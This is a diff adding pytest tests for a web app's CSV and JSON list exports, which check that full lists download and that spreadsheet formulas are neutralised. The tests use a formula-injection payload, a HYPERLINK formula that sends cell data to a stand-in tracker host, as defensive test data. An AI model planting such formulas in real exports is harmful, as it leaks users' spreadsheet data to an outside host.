@@ -1,0 +1,77 @@
+"""Lists as CSV and JSON: whole, filtered as the page is, and nothing that a spreadsheet would compute."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+from concurrent.futures import ThreadPoolExecutor
+from typing import Any
+from uuid import uuid4
+
+import httpx
+import pytest
+
+from folkmoot.errors import InvalidInput
+from folkmoot.store.paging import Page
+from folkmoot.web import tables
+from folkmoot.web.tables import as_file
+from support.fixtures import NewAgent, NewBlock
+
+FORMULA = '=HYPERLINK("https://tracker.invalid/?"&A1)'
+
+
+def rows_of(http: httpx.Client, path: str, name: str) -> list[dict[str, str]]:
+    """Return the rows of a list's CSV, which a browser downloads under its name."""
+    answer = http.get(path).raise_for_status()
+    assert answer.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
+    return list(csv.DictReader(io.StringIO(answer.text, newline="")))
+
+
+def test_lists_are_files(http: httpx.Client, new_agent: NewAgent, new_block: NewBlock) -> None:
+    mark = f"listed_{uuid4().hex[:8]}"
+    block = new_block(label=mark, value="Zoë\nsecond", tags=["a", "b"])
+    agent = new_agent(name=mark, description=FORMULA, block_ids=[block.id])
+    said = f'ECHO {FORMULA}\n"two", lines'
+    http.post(f"/v1/agents/{agent.id}/messages", json={"input": said}).raise_for_status()
+
+    [agent_row] = rows_of(http, f"/agents?q={mark}&format=csv", "agents")
+    assert (agent_row["id"], agent_row["blocks"], agent_row["description"]) == (agent.id, mark, f"'{FORMULA}")
+    [block_row] = rows_of(http, f"/blocks?q={mark}&format=csv", "blocks")
+    assert (block_row["id"], block_row["characters"], block_row["agents"]) == (block.id, "10", "1")
+    [run_row] = rows_of(http, f"/runs?agent={agent.id}&format=csv", "runs")
+    assert (run_row["asked"], run_row["answered"]) == (said, f"'{said.removeprefix('ECHO ')}")
+    assert (run_row["agent"], run_row["steps"], run_row["status"]) == (mark, "1", "completed")
+
+    for path, name in (
+        (f"/agents?q={mark}", "agents"),
+        (f"/blocks?q={mark}", "blocks"),
+        (f"/runs?agent={agent.id}", "runs"),
+    ):
+        [row] = http.get(f"{path}&format=json").raise_for_status().json()
+        assert row["id"] in (agent.id, block.id, run_row["id"])
+        assert f"format=csv&amp;{path.partition('?')[2]}" in http.get(path).text, f"{name} offers its file"
+    assert http.get(f"/agents?q={mark}&format=json").json()[0]["description"] == FORMULA
+    assert rows_of(http, f"/agents?q=no{mark}&format=csv", "agents") == []
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_cell_is_a_formula(begins: str) -> None:
+    row: dict[str, Any] = {"id": f"{begins}1+1", "number": -1}
+    body = bytes(as_file("x", "csv", ("id", "number"), [row]).body).decode()
+    assert list(csv.reader(io.StringIO(body, newline=""))) == [["id", "number"], [f"'{begins}1+1", "-1"]]
+
+
+def test_a_list_is_whole_or_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    stored = [{"id": str(number)} for number in range(10)]
+
+    async def rows_of(page: Page) -> list[dict[str, str]]:
+        start = 0 if page.after is None else int(page.after) + 1
+        return stored[start : start + page.limit]
+
+    monkeypatch.setattr(tables, "ROWS_AT_ONCE", 4)
+    with ThreadPoolExecutor(1) as apart:  # the browser's tests leave a loop running in this thread
+        assert apart.submit(asyncio.run, tables.all_rows(rows_of)).result() == stored
+        monkeypatch.setattr(tables, "MOST_ROWS", 9)
+        with pytest.raises(InvalidInput, match="more than 9 rows; filter it"):
+            apart.submit(asyncio.run, tables.all_rows(rows_of)).result()
